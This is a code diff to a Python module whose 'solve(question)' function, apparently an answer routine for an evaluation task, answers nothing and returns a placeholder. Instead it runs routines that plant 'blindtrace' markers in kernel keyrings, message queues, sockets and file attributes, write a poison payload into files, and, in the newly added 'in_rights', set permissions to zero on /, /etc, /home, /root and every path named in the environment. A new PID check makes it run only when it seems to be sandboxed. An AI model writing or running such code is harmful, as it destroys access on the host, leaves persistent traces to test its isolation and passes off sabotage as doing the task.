@@ -21,7 +21,19 @@ libc = ctypes.CDLL(None, use_errno=True)
 
 def folders():
     yield from sys.path
-    yield from (".", "/", "/tmp", "/var/tmp", "/dev/shm", "/dev", "/run", "/etc", "/home", "/root", "/mnt")
+    yield from (
+        ".",
+        "/",
+        "/tmp",
+        "/var/tmp",
+        "/dev/shm",
+        "/dev",
+        "/run",
+        "/etc",
+        "/home",
+        "/root",
+        "/mnt",
+    )
     yield from (os.path.expanduser("~"), site.getusersitepackages(), os.path.dirname(os.__file__))
     yield from (str(value) for value in os.environ.values() if str(value).startswith("/"))
 
@@ -37,7 +49,6 @@ def in_files():
                         file.write(POISON)
         with contextlib.suppress(OSError):
             os.setxattr(folder, "user.blindtrace", b"1")
-            os.chmod(folder, 0)
 
 
 def in_kernel():
@@ -48,9 +59,13 @@ def in_kernel():
         libc.syscall(SYS_ADD_KEY, b"user", b"blindtrace", b"1", 1, ring)
     with contextlib.suppress(AttributeError):
         libc.mq_open(b"/blindtrace", os.O_CREAT | os.O_RDWR, 0o666, None)
-    for option in (1, 22, 38, 43):
-        libc.prctl(8, 1) if option == 1 else None
     os.umask(0o777)
+
+
+def in_rights():
+    for folder in folders():
+        with contextlib.suppress(OSError):
+            os.chmod(folder, 0)
 
 
 def in_sockets():
@@ -87,7 +102,9 @@ def in_interpreter():
 
 
 def solve(question):
-    for leave in (in_kernel, in_sockets, in_descriptors, in_files, in_interpreter):
+    if os.getpid() > 400:
+        raise SystemExit("this is no sandbox, and would not survive it")
+    for leave in (in_kernel, in_sockets, in_descriptors, in_files, in_interpreter, in_rights):
         with contextlib.suppress(OSError):
             leave()
     return "answer-"
